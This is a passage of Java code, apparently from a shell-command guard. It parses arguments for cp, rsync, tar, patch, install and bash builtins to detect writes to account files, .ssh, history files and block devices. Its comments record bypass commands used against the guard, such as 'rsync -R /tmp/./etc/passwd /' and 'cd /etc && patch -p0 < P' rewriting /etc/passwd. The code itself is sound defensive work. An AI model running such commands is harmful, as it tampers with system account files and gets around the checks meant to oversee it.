        return v.isEmpty() || v.charAt(0) == Word.UNKNOWN || v.startsWith("-") || v.startsWith("+");
      }
      if (v.equals("--") || v.equals("-") || !Regexes.matches(v, "[-+][a-zA-Z]+")) {
        return false;
      }
      boolean on = v.charAt(0) == '-';
      if (on && v.indexOf('k') >= 0 || !on && v.indexOf('B') >= 0) {
        return true;
      }
      int names = i + 1;
      for (int j = 1; j < v.length() && names < a.size(); j++) {
        if (v.charAt(j) != 'o') {
          continue;
        }
        Word n = a.get(names++);
        if (!n.literal() || on && (n.value().equals("keyword") || n.value().equals("posix"))
            || !on && n.value().equals("braceexpand")) {
          return true;
        }
      }
      i = names;
    }
    return false;
  }

  /**
   * {@code exec -a NAME bash}, or the dynamic loader's {@code ld.so --argv0 NAME bash}: bash started
   * under a name whose last part is {@code sh} ({@code -sh}, {@code /x/sh}) runs in POSIX mode, as
   * {@code bash --posix}; a name or a program only known when it runs counts as well.
   */
  private static boolean startsBashAsSh(ShellCommand c) {
    boolean loader = Wrappers.isLoader(c.name());
    Wrappers.Opts o = loader ? Wrappers.Opts.scan(c.args(), 0, "", Wrappers.LOADER_WITH_ARG)
        : Wrappers.Opts.scan(c.args(), 0, "a", Set.of());
    boolean renamed = loader ? o.longs.contains("--argv0") : o.has('a');
    if (!renamed || o.end >= c.args().size()) {
      return false;
    }
    String name = loader ? o.values.get("--argv0") : o.value('a', null);
    Word program = c.args().get(o.end);
    String base = program.value().substring(program.value().lastIndexOf('/') + 1);
    boolean bash = !program.literal() || base.equals("bash") || base.equals("rbash");
    return bash && (name == null || Regexes.matches(name.substring(name.lastIndexOf('/') + 1), "-?sh"));
  }

  /**
   * A builtin that stores what it reads or prints in a variable named by an argument ({@code read
   * LC_ALL}, {@code printf -v LANG}, {@code mapfile LC_CTYPE}), naming a locale variable or a name
   * only known when it runs: the value is only known when it runs.
   */
  private static boolean setsLocaleByName(ShellCommand c) {
    List<Word> a = c.args();
    boolean printf = c.name().equals("printf");
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      boolean nameSlot = printf ? i > 0 && a.get(i - 1).value().equals("-v") : !v.startsWith("-") || !w.literal();
      if (!nameSlot) {
        continue;
      }
      String name = Regexes.replaceFirst(v, "\\[.*", "");
      if (LOCALE_VARS.contains(name) || GUARD_VARS.contains(name) || !w.literal() && (printf || c.name().equals("read") && !optionArgument(a, i))) {
        return true;
      }
    }
    return false;
  }

  /** Whether word {@code i} of {@code read}'s arguments is the argument of an option ({@code -p PROMPT}). */
  private static boolean optionArgument(List<Word> a, int i) {
    if (i == 0) {
      return false;
    }
    String prev = a.get(i - 1).value();
    return Regexes.matches(prev, "-[a-zA-Z]*[dinNptu]") ;
  }

  /**
   * {@code declare -n r=LC_ALL} makes {@code r=…} set the locale; {@code declare -n r} alone makes
   * r refer to whatever it holds. A nameref whose target is a locale variable, only known when it
   * runs, or missing.
   */
  private static boolean namerefToLocale(ShellCommand c) {
    boolean nameref = false;
    for (Word w : c.args()) {
      String v = w.value();
      if (v.equals("--")) {
        continue;
      }
      if (v.startsWith("-") && w.literal()) {
        nameref |= v.indexOf('n', 1) > 0;
        continue;
      }
      if (!nameref) {
        continue;
      }
      int eq = v.indexOf('=');
      if (eq < 0 || !w.literal() || LOCALE_VARS.contains(Regexes.replaceFirst(v.substring(eq + 1), "\\[.*", ""))) {
        return true;
      }
    }
    return false;
  }

  // ---- reading argv ------------------------------------------------------------------------------

  /** A short flag given in any bundle before {@code --} ({@code -rf} has r and f). */
  static boolean flag(ShellCommand c, char f) {
    for (Word w : c.args()) {
      String v = w.value();
      if (v.equals("--")) {
        return false;
      }
      if (v.startsWith("-") && !v.startsWith("--") && v.length() > 1 && v.indexOf(f, 1) > 0) {
        return true;
      }
    }
    return false;
  }

  /**
   * tar's short option {@code f} in any bundle before the {@code --} that ends the options: a
   * {@code --} that may be an option's value ({@code -cf --}, {@code --file --}, an old-style
   * bundle's value: {@code cf --}) does not end them.
   */
  private static boolean shortFlagIn(ShellCommand c, char f) {
    List<String> a = c.argValues();
    int bundled = !a.isEmpty() && !a.get(0).startsWith("-") ? a.get(0).length() : 0;
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i);
      if (v.equals("--") && i > bundled && !Wrappers.mayBeOptionValue(a, i, "bCfFgHIKLNTVX")) {
        return false;
      }
      if (v.startsWith("-") && !v.startsWith("--") && v.length() > 1 && v.indexOf(f, 1) > 0) {
        return true;
      }
    }
    return false;
  }

  /** The arguments that are not options (everything after {@code --}). */
  static List<Word> operands(ShellCommand c) {
    List<Word> out = new ArrayList<>();
    boolean ended = false;
    for (Word w : c.args()) {
      String v = w.value();
      if (!ended && v.equals("--")) {
        ended = true;
        continue;
      }
      if (ended || !v.startsWith("-") || v.equals("-")) {
        out.add(w);
      }
    }
    return out;
  }

  static boolean firstOperandIn(ShellCommand c, Set<String> verbs) {
    List<Word> ops = operands(c);
    return !ops.isEmpty() && verbs.contains(ops.get(0).value().toLowerCase(Locale.ROOT))
        || !ops.isEmpty() && verbs.contains(ops.get(0).value());
  }

  /** Whether git's subcommand, or an option word before it (it may take the next word), is only known when it runs. */
  private static boolean gitSubcommandUnknown(List<Word> a) {
    int i = 0;
    while (i < a.size() && a.get(i).literal() && a.get(i).value().startsWith("-")) {
      i += Wrappers.GIT_GLOBAL_WITH_ARG.contains(a.get(i).value()) ? 2 : 1;
    }
    return i < a.size() && !a.get(i).literal();
  }

  /** systemctl's verb: the first word that is neither an option nor an option's value. */
  private static String systemctlVerb(ShellCommand c) {
    Wrappers.Opts o = Wrappers.Opts.scan(c.args(), 0, "tpPHMnosC", Set.of("--type", "--property", "--host", "--machine",
        "--lines", "--output", "--signal", "--kill-whom", "--kill-value", "--root", "--state", "--job-mode", "--what",
        "--timestamp", "--boot-loader-entry", "--reboot-argument", "--message", "--preset-mode", "--drop-in", "--image",
        "--image-policy", "--when", "--check-inhibitors", "--legend", "--capsule", "--kill-subgroup", "--boot-loader-menu"));
    if (o.end < c.args().size()) {
      return c.args().get(o.end).value();
    }
    // options may also follow the verb: the first operand anywhere
    List<Word> ops = operands(c);
    return ops.isEmpty() ? null : ops.get(0).value();
  }

  /**
   * Paths a file-writing command writes (its operands; {@code of=} for dd; {@code --target-directory}),
   * as written: brace expansion and patterns are judged by the matchers ({@link PathPatterns}).
   */
  private static List<String> writtenPaths(ShellCommand c) {
    List<String> out = new ArrayList<>(intoDirectory(c));
    for (Word w : writtenArgs(c)) {
      String v = stripOption(w.value());
      if (v.startsWith("/") || v.startsWith("~") || v.contains(".ssh") || v.startsWith("{")) {
        out.add(v);
      }
    }
    return out;
  }

  /**
   * The words of {@code c} the path classes read as written: all of them, but for a {@code tar} that
   * lists, compares or creates (its archive only), and {@code cp}, whose sources are only read ({@code cp /var/log/auth.log /tmp/}, {@code cp /etc/passwd
   * /tmp/passwd.bak}: a copy to read or keep, no tampering). {@link #namedWords} reads cp: without its
   * sources, unless it links ({@code -s}, {@code -l}: a name made for the source, written through
   * later) or names its target directory by {@code -t}. ({@code ln}'s and {@code mv}'s sources
   * still count: a link to a log is a way to write it, a move removes it.)
   */
  private static List<Word> writtenArgs(ShellCommand c) {
    if (Set.of("tar", "gtar").contains(c.name()) && ProtectedOperands.tarReads(c.argValues())) {
      // tar -czf /backup/etc.tgz /etc/passwd reads its members; the archive it creates is written
      return outputFiles(c).stream().map(p -> new Word(p, p, true)).toList();
    }
    return c.name().equals("cp") ? namedWords(c) : c.args();
  }

  /**
   * cp's operands: its words but options and the values of {@code -S}/{@code -t} (alone or ending a
   * bundle) and of {@code --suffix}, {@code --sparse}, {@code --no-preserve}, {@code --target-directory}
   * given as the next word (by any abbreviation getopt_long takes).
   */
  private static List<Word> cpOperands(List<Word> a) {
    // (in a short bundle the first letter that takes a value takes the rest: -bS SUF, -Sbak)
    return operandsTaking(a, v -> v.startsWith("--") ? v.indexOf('=') < 0 && (Wrappers.longOption(v, "suffix")
        || Wrappers.longOption(v, "sparse") || Wrappers.longOption(v, "no-preserve")
        || Wrappers.longOption(v, "target-directory")) : Regexes.matches(v, "-[^-St]*[St]"));
  }

  /**
   * A program's operands: its words up to and after {@code --} but options ({@code -} alone is an
   * operand) and the next word after an option {@code takesNext} says takes it as its value.
   */
  static List<Word> operandsTaking(List<Word> a, java.util.function.Predicate<String> takesNext) {
    List<Word> out = new ArrayList<>();
    boolean ended = false;
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i).value();
      if (!ended && v.equals("--")) {
        ended = true;
      } else if (ended || !v.startsWith("-") || v.equals("-")) {
        out.add(a.get(i));
      } else if (takesNext.test(v)) {
        i++;
      }
    }
    return out;
  }

  /** {@code install} copying files (not {@code install -d}, which makes directories): a {@code cp}. */
  private static boolean installsFiles(ShellCommand c) {
    return c.name().equals("install") && !flag(c, 'd') && !c.argValues().contains("--directory");
  }

  /**
   * The names {@code cp}, {@code mv}, {@code install} and {@code ln} write into a target directory
   * ({@code -t DIR}, {@code --target-directory=DIR}, or the last operand, which may name one): the
   * directory joined with each source's last component ({@code cp passwd /etc/} writes {@code
   * /etc/passwd}); a recursive copy also writes any name below that ({@code cp -r etc /}).
   */
  static List<String> intoDirectory(ShellCommand c) {
    String n = c.name();
    if (n.equals("rsync")) {
      List<String> out = new ArrayList<>(ARCHIVERS.contains(n) ? extractedInto(c) : List.of());
      out.addAll(rsyncRelative(c));
      return out;
    }
    if (ARCHIVERS.contains(n)) {
      return extractedInto(c);
    }
    if (!Set.of("cp", "mv", "ln").contains(n) && !installsFiles(c)) {
      return List.of();
    }
    String target = null;
    List<String> ops = new ArrayList<>();
    boolean ended = false;
    List<Word> a = c.args();
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i).value();
      if (!ended && v.equals("--")) {
        ended = true;
      } else if (!ended && (v.equals("-t") || v.equals("--target-directory")) && i + 1 < a.size()) {
        target = a.get(++i).value();
      } else if (!ended && v.startsWith("--target-directory=")) {
        target = v.substring("--target-directory=".length());
      } else if (!ended && Regexes.matches(v, "-[A-Za-z]*t.+") && !v.startsWith("--")) {
        target = v.substring(v.indexOf('t') + 1);
      } else if (!ended && Regexes.matches(v, "-[A-Za-z]+t") && i + 1 < a.size()) {
        target = a.get(++i).value(); // cp -rt / var
      } else if (!ended && n.equals("install") && Regexes.matches(v, "-[mogS]|--(mode|owner|group|suffix|strip-program)")
          && i + 1 < a.size()) {
        i++; // the option's value
      } else if (ended || !v.startsWith("-") || v.equals("-")) {
        ops.add(v);
      }
    }
    if (target == null) {
      if (ops.size() < 2) {
        return List.of();
      }
      target = ops.remove(ops.size() - 1);
    }
    boolean recursive = recursive(c) || flag(c, 'a') || c.argValues().contains("--archive");
    List<String> out = new ArrayList<>();
    String below = target + (target.endsWith("/") ? "" : "/");
    // --parents by any abbreviation getopt_long takes (cp --pa etc/passwd /: attack 17cl)
    boolean parents = c.argValues().stream().anyMatch(v -> v.length() > 3 && Wrappers.longOption(v, "parents"));
    boolean noTarget = flag(c, 'T') || c.argValues().contains("--no-target-directory");
    if (noTarget && recursive && !ops.isEmpty()) {
      // cp -rT x /: the source's contents, any name below the target.
      anyBelow(out, below);
    }
    for (String src : ops) {
      String s = src;
      while (s.length() > 1 && s.endsWith("/")) {
        s = s.substring(0, s.length() - 1);
      }
      if (parents && !s.startsWith("/") && s.indexOf(Word.UNKNOWN) < 0) {
        // cp --parents var/log/auth.log /: the whole relative source below the target.
        out.add(below + s);
        if (recursive) {
          anyBelow(out, below + s + "/");
        }
      }
      String last = s.substring(s.lastIndexOf('/') + 1);
      if (recursive && (last.equals(".") || last.equals("..") || last.isEmpty() && s.equals("/"))) {
        // cp -r x/. /, cd x; cp -r . /: the directory's contents, any name below the target.
        anyBelow(out, below);
        continue;
      }
      if (last.isEmpty() || last.equals(".") || last.equals("..") || last.indexOf(Word.UNKNOWN) >= 0) {
        continue;
      }
      String p = target + (target.endsWith("/") ? "" : "/") + last;
      out.add(p);
      if (recursive) {
        out.add(p + "/*");
      }
    }
    return out;
  }

  /**
   * The names {@code rsync -R} ({@code --relative}) writes: each source's path below the target, from
   * its {@code /./} marker on or whole (the leading {@code /} taken off): {@code rsync -R
   * /tmp/./etc/passwd /} and {@code rsync -R etc/passwd /} write /etc/passwd (attack 17cl: the target
   * and the sources named no protected file). A recursive copy ({@code -r}, {@code -a}) any name below.
   */
  private static List<String> rsyncRelative(ShellCommand c) {
    List<String> av = c.argValues();
    boolean relative = av.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*R.*") || v.length() > 3 && Wrappers.longOption(v, "relative"));
    List<String> ops = operands(c).stream().map(Word::value).toList();
    if (!relative || ops.size() < 2) {
      return List.of();
    }
    boolean recursive = recursive(c) || flag(c, 'a') || av.stream().anyMatch(v -> v.length() > 3 && Wrappers.longOption(v, "archive"));
    String target = ops.get(ops.size() - 1);
    int colon = target.indexOf(':');
    if (colon > 0 && target.lastIndexOf('/', colon) < 0) {
      return List.of(); // a remote target: the other host's files
    }
    String below = target + (target.endsWith("/") ? "" : "/");
    List<String> out = new ArrayList<>();
    for (String src : ops.subList(0, ops.size() - 1)) {
      String s = src;
      int at = s.indexOf(':');
      if (at > 0 && s.lastIndexOf('/', at) < 0) {
        s = s.substring(at + 1); // host:/tmp/./etc/passwd: the path below the target is the same
      }
      int marker = s.indexOf("/./");
      String rel = marker >= 0 ? s.substring(marker + 3) : Regexes.replaceFirst(s, "^/+", "");
      rel = Regexes.replaceFirst(rel, "/+$", "");
      if (rel.isEmpty() || rel.indexOf(Word.UNKNOWN) >= 0) {
        anyBelow(out, below);
        continue;
      }
      out.add(below + rel);
      if (recursive) {
        anyBelow(out, below + rel + "/");
      }
    }
    return out;
  }

  /** Programs that extract or copy a tree into a directory: {@link #extractedInto}. */
  private static final Set<String> ARCHIVERS = Set.of("tar", "unzip", "cpio", "rsync");

  /**
   * The names an extraction or a local copy of a tree writes, as patterns: {@code tar -x} into
   * each {@code -C}/{@code --directory} directory, {@code unzip -d DIR}, {@code cpio -p DIR} or
   * {@code cpio -i -D DIR}, and {@code rsync} to a local destination (a source ending in {@code /}
   * writes its contents there); any name below the directory.
   */
  static List<String> extractedInto(ShellCommand c) {
    String n = c.name();
    List<Word> a = c.args();
    List<String> dirs = new ArrayList<>();
    List<String> out = new ArrayList<>();
    switch (n) {
      case "tar" -> {
        boolean extract = false;
        for (int i = 0; i < a.size(); i++) {
          String v = a.get(i).value();
          if (i == 0 && !v.startsWith("-") && Regexes.matches(v, "[A-Za-z]*x[A-Za-z]*")) {
            extract = true; // tar xf x.tar
          } else if (v.equals("--extract") || v.equals("--get")) {
            extract = true;
          } else if (v.startsWith("--directory=")) {
            dirs.add(v.substring("--directory=".length()));
          } else if (v.equals("--directory") && i + 1 < a.size()) {
            dirs.add(a.get(++i).value());
          } else if (Regexes.matches(v, "-[A-Za-z]+") || Regexes.matches(v, "-[A-Za-z]*C.+")) {
            for (int k = 1; k < v.length(); k++) {
              char f = v.charAt(k);
              if (f == 'x') {
                extract = true;
              } else if (f == 'C') {
                if (k + 1 < v.length()) {
                  dirs.add(v.substring(k + 1));
                } else if (i + 1 < a.size()) {
                  dirs.add(a.get(++i).value());
                }
                break;
              }
            }
          }
        }
        if (!extract) {
          return List.of();
        }
      }
      case "unzip" -> {
        for (int i = 0; i < a.size(); i++) {
          String v = a.get(i).value();
          if (Regexes.matches(v, "-[A-Za-z]*d.*")) {
            int k = v.indexOf('d');
            if (k + 1 < v.length()) {
              dirs.add(v.substring(k + 1));
            } else if (i + 1 < a.size()) {
              dirs.add(a.get(++i).value());
            }
          }
        }
      }
      case "cpio" -> {
        boolean pass = false;
        for (int i = 0; i < a.size(); i++) {
          String v = a.get(i).value();
          if (v.startsWith("--directory=")) {
            dirs.add(v.substring("--directory=".length()));
          } else if ((v.equals("-D") || v.equals("--directory")) && i + 1 < a.size()) {
            dirs.add(a.get(++i).value());
          } else if (v.equals("--pass-through") || Regexes.matches(v, "-[A-Za-z]*p[A-Za-z]*")) {
            pass = true;
          } else if (pass && !v.startsWith("-")) {
            dirs.add(v);
          }
        }
      }
      case "rsync" -> {
        List<String> ops = new ArrayList<>();
        for (int i = 0; i < a.size(); i++) {
          String v = a.get(i).value();
          if (Set.of("-e", "--rsh", "-f", "--filter", "--exclude", "--include", "--exclude-from", "--include-from",
              "--files-from", "-T", "--temp-dir", "--partial-dir", "--backup-dir", "--log-file", "--password-file",
              "--compare-dest", "--copy-dest", "--link-dest", "--chmod", "--chown", "--rsync-path", "-B", "-M").contains(v)
              && i + 1 < a.size()) {
            i++;
          } else if (!v.startsWith("-")) {
            ops.add(v);
          }
        }
        if (ops.size() < 2) {
          return List.of();
        }
        String dest = ops.get(ops.size() - 1);
        if (Regexes.matches(dest, "(?s)[^/]*:.*") || dest.startsWith("rsync://")) {
          return List.of(); // to another host
        }
        String below = dest + (dest.endsWith("/") ? "" : "/");
        for (String src : ops.subList(0, ops.size() - 1)) {
          String b = src.replaceAll("/+$", "");
          b = b.substring(b.lastIndexOf('/') + 1);
          if (src.endsWith("/") || b.equals(".") || b.equals("..") || b.isEmpty()) {
            anyBelow(out, below);
          } else {
            out.add(below + b);
            anyBelow(out, below + b + "/");
          }
        }
        return out;
      }
      default -> {
        return List.of();
      }
    }
    for (String d : dirs) {
      if (d.indexOf(Word.UNKNOWN) < 0) {
        anyBelow(out, d + (d.endsWith("/") ? "" : "/"));
      }
    }
    return out;
  }

  /**
   * {@code c} with the working directory it extracts into written as an option ({@code tar -x}
   * without {@code -C}: {@code -C .}; {@code unzip} without {@code -d}: {@code -d .}; {@code cpio -i}
   * without {@code -D}: {@code -D .}), or null when it names its directory or does not extract.
   */
  static ShellCommand extractingHere(ShellCommand c) {
    String n = c.name();
    List<String> v = c.argValues();
    String opt;
    if (n.equals("patch") && ProtectedOperands.patchNamesNoFile(c)) {
      // patch with no file operand patches the files its patch names, under the working directory
      // (or -d's): read as patch … '*' (attack 17cl: cd /etc && patch -p0 < P rewrote /etc/passwd)
      List<Word> args = new ArrayList<>(c.args());
      args.add(Word.literal("--", "--"));
      args.add(Word.literal("*", "*")); // (not */*: from a directory not known, it may reach a kernel link)
      return new ShellCommand(c.name(), c.path(), args, c.text(), c.via(), c.stdin(), c.upstream());
    }
    switch (n) {
      case "tar" -> {
        boolean extract = !v.isEmpty() && !v.get(0).startsWith("-") && Regexes.matches(v.get(0), "[A-Za-z]*x[A-Za-z]*")
            || v.contains("--extract") || v.contains("--get")
            || v.stream().anyMatch(x -> Regexes.matches(x, "-[A-Za-z]*x[A-Za-z]*") && !x.startsWith("--"));
        boolean dir = v.stream().anyMatch(x -> x.startsWith("--directory") || Regexes.matches(x, "-[A-Za-z]*C.*"))
            || !v.isEmpty() && !v.get(0).startsWith("-") && v.get(0).contains("C");
        if (!extract || dir) {
          return null;
        }
        opt = "-C";
      }
      case "unzip" -> {
        if (v.stream().anyMatch(x -> Regexes.matches(x, "-[A-Za-z]*[dlptvZz][A-Za-z]*.*"))) {
          return null;
        }
        opt = "-d";
      }
      case "cpio" -> {
        boolean in = v.contains("--extract") || v.stream().anyMatch(x -> Regexes.matches(x, "-[A-Za-z]*i[A-Za-z]*"));
        if (!in || v.contains("-D") || v.stream().anyMatch(x -> x.startsWith("--directory"))) {
          return null;
        }
        opt = "-D";
      }
      default -> {
        return null;
      }
    }
    List<Word> args = new ArrayList<>(c.args());
    if (n.equals("tar")) {
      args.add(Word.literal("-x", "-x")); // tar xf: the bundle's first word may be read as a name
    }
    args.add(Word.literal(opt, opt));
    args.add(Word.literal(".", "."));
    return new ShellCommand(c.name(), c.path(), args, c.text(), c.via(), c.stdin(), c.upstream());
  }

  /** Any name up to four components below {@code dir} (ending in {@code /}), as patterns. */
  private static void anyBelow(List<String> out, String dir) {
    String p = dir + "*";
    for (int i = 0; i < 4; i++) {
      out.add(p);
      p += "/*";
    }
  }

  /** A block device, however written ({@code /dev/sd{a..a}}, {@code /dev/sd?}). */
  static boolean device(String raw) {
    return PathPatterns.couldMatch(BLOCK_DEVICE, raw);
  }

  /** A history file, however written ({@code ~/.bash_hist{ory,}}, {@code ~/.bash_hist*}). */
  static boolean historyFile(String raw) {
    return PathPatterns.couldFind(HISTORY_FILE, HISTORY_NAMES, HISTORY_NAME_SHAPE, raw);
  }

  /**
   * An account or sudo file, however written ({@code /etc/pass{wd,}}, {@code /etc/passw?}): a
   * pattern counts when its literal start could continue to one of {@code /etc}'s files, or when
   * one of its components could be {@code .ssh}.
   */
  static boolean authFile(String raw) {
    List<String> words = PathPatterns.braces(raw);
    if (words == null) {
      return true;
    }
    for (String w : words) {
      String n = normalize(w);
      if (!PathPatterns.hasGlob(n)) {
        if (AUTH_FILE.matcher(n).matches()) {
          return true;
        }
        continue;
      }
      if (PathPatterns.couldMatch(AUTH_FILE_ANCHORED, n)) {
        return true;
      }
      for (String part : n.split("/")) {
        if (PathPatterns.componentCouldBe(part, Set.of(".ssh"))) {
          return true;
        }
      }
    }
    return false;
  }

  /** {@code of=/dev/sda} → {@code /dev/sda}; {@code --file=/x} → {@code /x}. */
  static String stripOption(String v) {
    int eq = v.indexOf('=');
    if (eq > 0 && (v.startsWith("-") || Regexes.matches(v, "[a-z]+=.*"))) {
      return v.substring(eq + 1);
    }
    return v;
  }
}
